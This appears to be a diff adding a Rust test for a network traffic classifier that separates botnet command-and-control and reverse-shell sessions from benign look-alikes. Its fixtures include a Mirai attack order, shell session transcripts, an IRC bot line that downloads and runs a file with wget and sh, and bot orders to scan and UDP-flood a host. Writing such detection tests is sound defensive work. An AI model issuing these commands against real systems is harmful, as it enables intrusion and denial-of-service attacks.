@@ -130,3 +130,64 @@ fn further_controllers_and_further_look_alikes() {
     }
     table.check();
 }
+
+#[test]
+fn shells_and_rooms_and_what_resembles_them() {
+    let mut table = Table::default();
+    let attack = [&b"\0\x14"[..], &60_u32.to_be_bytes(), b"\0\x01\x91\x5f\x01\x09\x20\x02", b"\x07\x0280\x00\x00"].concat();
+    let (id, who) = (b"uid=33(www) gid=33(www) groups=33(www)\n", b"corp\\bob\r\nPS C:\\Users\\bob> ");
+    let kaiten = b":op!o@h PRIVMSG #m :!* SH wget http://145.95.1.9/a -O /tmp/a; sh /tmp/a\r\n";
+    for (name, port, kinds, family, said) in [
+        ("mirai, ordered before it pings", 1024, C2, "mirai", vec![(true, &b"\0\0\0\x01\x03arm"[..]), (false, &attack[..])]),
+        ("a shell without a prompt", 4444, C2, "reverse-shell", vec![(false, &b"id\n"[..]), (true, id)]),
+        (
+            "a terminal",
+            9001,
+            C2,
+            "reverse-shell",
+            vec![(true, &b"www@web:/var$ "[..]), (false, b"ls\n"), (true, b"ls\r\na b\r\nwww@web:/var$ ")],
+        ),
+        ("PowerShell's prompt", 443, C2, "reverse-shell", vec![(false, &b"whoami\n"[..]), (true, who)]),
+        ("kaiten's shell", 6667, SUSPECT, "irc-bot", vec![(true, &b"NICK abcde\nUSER x localhost localhost :x\n"[..]), (false, kaiten)]),
+        (
+            "a bot by its name and its orders",
+            6667,
+            C2,
+            "irc-bot",
+            vec![
+                (true, &b"NICK [USA|XP|483920]\r\nUSER x 0 0 :x\r\n"[..]),
+                (false, b":irc 332 [USA|XP|483920] #b :.advscan lsass 100 5 0 -r\r\n"),
+            ],
+        ),
+        (
+            "a bot that says what it does",
+            3303,
+            C2,
+            "irc-bot",
+            vec![
+                (true, &b"NICK x00\r\nUSER x00 1 1 :x00\r\n"[..]),
+                (false, b":b!~b@h PRIVMSG #x :!x @udpflood 145.95.1.9 65500 60\r\n"),
+                (true, b"PRIVMSG #x :\x02[UDP-DDOS]\x02 Attacking 145.95.1.9\r\n"),
+            ],
+        ),
+    ] {
+        table.add(name, Way::Out, port, kinds, Some(family), &said);
+    }
+    for (name, port, said) in [
+        (
+            "a bot for a team",
+            6697,
+            vec![
+                (true, &b"NICK build-bot\r\nUSER b 0 * :b\r\n"[..]),
+                (false, &b":x!y@z PRIVMSG #ci :!update http://ci.example/42\r\n"[..]),
+            ],
+        ),
+        ("telnet to a machine", 23, vec![(false, &b"login: "[..]), (true, b"root\r\n"), (false, b"# "), (true, b"id\r\n"), (false, id)]),
+        ("names of programs", 9000, vec![(false, &b"id\n"[..]), (true, b"client-17\n"), (false, b"ls\n"), (true, b"none\n")]),
+        ("a receiver of positions", 9000, vec![(true, &b"$GPRMC,123519,A,4807.038,N\n"[..]), (false, b"OK\n")]),
+        ("prices", 9000, vec![(true, &b"$ 17.20\n$ 18.00\n"[..]), (false, b"ok\n")]),
+    ] {
+        table.add(name, Way::Out, port, NOTHING, None, &said);
+    }
+    table.check();
+}
